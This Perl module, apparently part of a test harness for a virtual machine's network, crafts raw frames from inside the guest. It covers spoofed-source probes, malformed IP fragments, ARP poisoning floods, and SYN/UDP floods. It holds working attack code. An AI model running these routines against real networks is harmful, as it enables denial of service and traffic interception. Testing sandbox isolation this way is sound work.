# Through the network, by frames made by hand and as any program. A part of hostile.pl.
use strict;
use warnings;
use IO::Handle;
use IO::Select;
use Socket qw(:DEFAULT inet_pton inet_ntop);

my $host_mac = pack 'H*', '52550a000202';

sub own_mac {
    (my $hex = slurp('/sys/class/net/eth0/address')) =~ s/[:\n]//g;
    return pack 'H*', $hex;
}

sub wire {
    socket(my $s, 17, SOCK_RAW, 0) or die "packet socket: $!\n"; # AF_PACKET
    my $to = pack 'S n i S C C a8', 17, 3, slurp('/sys/class/net/eth0/ifindex'), 0, 0, 6, $host_mac;
    return sub { send $s, $_[0], 0, $to };
}

sub checksum {
    my ($data) = @_;
    my $sum = unpack '%32n*', length($data) % 2 ? "$data\0" : $data;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

# The segment that opens a connection, or a datagram.
sub segment {
    my ($protocol, $src, $dst, $sport, $dport) = @_;
    my $s = $protocol == 6 ? pack('n n N N C C n n n', $sport, $dport, 1000, 0, 5 << 4, 2, 8192, 0, 0)
                           : pack('n n n n a8', $sport, $dport, 16, 0, 'hostile');
    my $pseudo = $src . $dst . (length $src == 16 ? pack('N N', length $s, $protocol) : pack('n n', $protocol, length $s));
    substr $s, $protocol == 6 ? 16 : 6, 2, pack 'n', checksum($pseudo . $s) || 0xffff;
    return $s;
}

sub packet4 {
    my ($protocol, $src, $dst, $id, $options, $payload) = @_;
    my $h = pack('C C n n n C C n', 0x45 + length($options) / 4, 0, 20 + length($options) + length $payload, $id, 0,
                 64, $protocol, 0) . $src . $dst . $options;
    substr $h, 10, 2, pack 'n', checksum($h);
    return $h . $payload;
}

# The frames of one try: plain, with options, as of a virtual network.
sub frames {
    my ($protocol, $from, $to, $sport, $dport) = @_;
    if ($to =~ /:/) {
        my ($src, $dst) = (inet_pton(AF_INET6, $from), inet_pton(AF_INET6, $to));
        my $s = segment($protocol, $src, $dst, $sport, $dport);
        return pack('n', 0x86dd) . pack('N n C C', 6 << 28, length $s, $protocol, 64) . $src . $dst . $s;
    }
    my ($src, $dst) = (inet_pton(AF_INET, $from), inet_pton(AF_INET, $to));
    my @s = map { segment($protocol, $src, $dst, $sport + $_, $dport) } 0 .. 2;
    return (pack('n', 0x800) . packet4($protocol, $src, $dst, $sport, '', $s[0]),
            pack('n', 0x800) . packet4($protocol, $src, $dst, $sport + 1, "\1\1\1\0", $s[1]),
            pack('n n n', 0x8100, 0, 0x800) . packet4($protocol, $src, $dst, $sport + 2, '', $s[2]));
}

# What has $port at each of the addresses, by frames under a name of our own, of the host's and of others.
sub attack_frames {
    my ($port, @targets) = @_;
    my ($send, $mac, $sport) = (wire(), own_mac(), 20000);
    chomp(my $own6 = `ip -6 -o addr show dev eth0 scope global | sed 's/.*inet6 //; s,/.*,,;q'`);
    for my $to (@targets) {
        my @from = $to =~ /:/ ? ($own6 || 'fec0::15', '::1', $to) : ('10.0.2.15', '127.0.0.1', '10.0.2.2', $to);
        for my $from (@from) {
            for my $protocol (6, 17) {
                $send->($host_mac . $mac . $_) for frames($protocol, $from, $to, $sport, $port);
                $sport += 3;
            }
        }
        pause(0.05);
    }
    print "$sport\n";
}

# The same by the kernel's own hand: as any program of the guest.
sub attack_connect {
    my ($port, @targets) = @_;
    for my $to (@targets) {
        my $six = $to =~ /:/;
        my $family = $six ? AF_INET6 : AF_INET;
        my $address = inet_pton($family, $to);
        my $name = $six ? Socket::pack_sockaddr_in6($port, $address) : pack_sockaddr_in($port, $address);
        if (socket my $u, $family, SOCK_DGRAM, 0) {
            setsockopt $u, SOL_SOCKET, SO_BROADCAST, 1;
            send $u, 'hostile', 0, $name;
        }
        socket my $t, $family, SOCK_STREAM, 0 or next;
        $t->blocking(0);
        connect $t, $name;
        my $open = IO::Select->new($t)->can_write(1) && getpeername $t;
        print "$to: ", $open ? "open\n" : "closed\n";
    }
}

# A fragment: $at in units of 8 bytes.
sub piece {
    my ($protocol, $src, $dst, $id, $at, $more, $data) = @_;
    my $h = pack('C C n n n C C n', 0x45, 0, 20 + length $data, $id, ($more ? 0x2000 : 0) | $at, 64, $protocol, 0) . $src . $dst;
    substr $h, 10, 2, pack 'n', checksum($h);
    return pack('n', 0x800) . $h . $data;
}

# The orders in which the pieces of a packet may come; each is [at, more, bytes].
sub orders {
    my ($s) = @_;
    my $more = $s . "\0" x (48 - length $s);
    return ([[0, 1, 8]], [[1, 0, 8]], [[0, 1, 8], [1, 0, 40]], [[1, 0, 40], [0, 1, 8]], [[0, 1, 16], [1, 0, 40]],
            [[0, 1, 16], [1, 1, 8], [1, 0, 40]], [[0, 1, 8], [0, 1, 8], [1, 0, 40], [1, 0, 40]], [[0, 1, 8], [5, 0, 8]],
            [map { [$_, $_ < 5, 8] } 0 .. 5], [map { [$_, $_ < 5, 8] } reverse 0 .. 5], [[0, 1, 9], [1, 0, 8]],
            [[0x1fff, 0, 48]], [[0, 1, 8], [0x1ffe, 1, 48], [0x1fff, 0, 48]]), $more;
}

# Each order to each target, under several names; then packets of SECONDS that begin and never end, under many.
sub attack_fragments {
    my ($port, $seconds, @targets) = @_;
    my ($send, $mac, $id) = (wire(), own_mac(), 1);
    for my $to (grep { !/:/ } @targets) {
        for my $from ('10.0.2.15', '127.0.0.1', '10.0.2.2') {
            my ($src, $dst) = (inet_pton(AF_INET, $from), inet_pton(AF_INET, $to));
            for my $protocol (6, 17) {
                my @all = orders(segment($protocol, $src, $dst, 30000 + $id % 20000, $port));
                my $whole = pop @all;
                for my $order (@all) {
                    $send->($host_mac . $mac . piece($protocol, $src, $dst, $id, $_->[0], $_->[1], substr $whole . "x" x 99, $_->[0] * 8 % 40, $_->[2])) for @$order;
                    $id++;
                }
            }
        }
        pause(0.02);
    }
    my ($until, $sent) = (time + $seconds, 0);
    while (time < $until) {
        my $src = pack 'C4', 10, 0, 2, 1 + $sent / 65536 % 250;
        $send->($host_mac . $mac . piece(17, $src, pack('C4', 192, 0, 2, 9), $sent++ & 0xffff, 0, 1, "x" x 1400));
    }
    print "$id packets in pieces, $sent without an end\n";
}

sub arp {
    my ($operation, $sender_mac, $sender, $target_mac, $target) = @_;
    return pack('n n n C C n', 0x806, 1, 0x800, 6, 4, $operation) . $sender_mac . inet_aton($sender) . $target_mac . inet_aton($target);
}

# For SECONDS: others have our address, we have the host's and everybody's.
sub attack_arp {
    my ($seconds) = @_;
    my ($send, $mac, $sent) = (wire(), own_mac(), 0);
    my $until = time + $seconds;
    while (time < $until) {
        my $other = pack 'C n N', 0x52, int rand 65536, int rand 2**32;
        my $any = '10.0.2.' . int rand 256;
        $send->("\xff" x 6 . substr($other, 0, 6) . $_) for arp(1, substr($other, 0, 6), '10.0.2.15', "\0" x 6, '10.0.2.2'),
            arp(2, substr($other, 0, 6), '10.0.2.15', $host_mac, '10.0.2.2'), arp(2, $mac, '10.0.2.2', $host_mac, '10.0.2.2'),
            arp(1, $mac, $any, "\0" x 6, $any), arp(2, "\xff" x 6, $any, "\xff" x 6, $any), pack('n', 0x806) . $other;
        $sent += 6;
    }
    # who answers for our address was told wrong; what a kernel says when it comes up
    $send->("\xff" x 6 . $mac . arp(1, $mac, '10.0.2.15', "\0" x 6, '10.0.2.15'));
    print "$sent frames\n";
}

# For SECONDS: connections and datagrams that begin, from all ports, to all ports.
sub attack_flood {
    my ($seconds, @targets) = @_;
    my ($send, $mac, $sent) = (wire(), own_mac(), 0);
    my $until = time + $seconds;
    my @to = map { inet_pton(AF_INET, $_) } @targets;
    my $src = inet_pton(AF_INET, '10.0.2.15');
    while (time < $until) {
        for my $dst (@to) {
            for my $protocol (6, 17) {
                my ($sport, $dport) = (1024 + int rand 64000, 1 + int rand 65535);
                $send->($host_mac . $mac . pack('n', 0x800) . packet4($protocol, $src, $dst, $sent++ & 0xffff, '', segment($protocol, $src, $dst, $sport, $dport)));
            }
        }
    }
    print "$sent frames\n";
}

1;
